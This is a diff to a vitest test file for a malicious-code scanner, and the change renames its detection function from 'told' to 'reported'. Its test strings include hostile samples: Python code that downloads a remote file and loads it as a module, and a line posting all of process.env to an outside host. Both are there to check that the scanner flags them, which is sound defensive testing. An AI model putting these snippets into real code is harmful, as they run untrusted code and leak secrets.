@@ -1,7 +1,7 @@
 // Guards the classes that blind look-alikes showed: each row is in other words than theirs, and each has an honest kin.
 
 import { describe, expect, it } from 'vitest'
-import { refusals, told } from './scanned.ts'
+import { refusals, reported } from './scanned.ts'
 
 const fence = (text: string, word = 'sh'): string => `\`\`\`${word}\n${text}\n\`\`\``
 const HOST = 'https://q.a-x.net'
@@ -91,7 +91,7 @@ describe('what is warned of', () => {
       'a.py',
       'import importlib.util, tempfile, urllib.request\nf = tempfile.NamedTemporaryFile()\nf.write(urllib.request.urlopen(u).read())\ns = importlib.util.spec_from_file_location("r", f.name)',
     ],
-  ])('%s: %s', (path, text) => expect(told(path, text)).not.toEqual([]))
+  ])('%s: %s', (path, text) => expect(reported(path, text)).not.toEqual([]))
 })
 
 it('their honest kin pass', () => {
@@ -118,7 +118,7 @@ it('their honest kin pass', () => {
     ['a.sh', 'cp a.json /tmp/b\ncurl -d @/tmp/b https://a-x.net'],
     ['a.md', fence('strict-ssl=false', 'ini')],
   ] as const)
-    expect(told(path, text), text).toEqual([])
+    expect(reported(path, text), text).toEqual([])
   // The whole of it is still refused, by whatever name.
   const whole =
     "const axios = require('axios')\nconst all = process.env\nawait axios.post('https://a-x.net/t', all)"
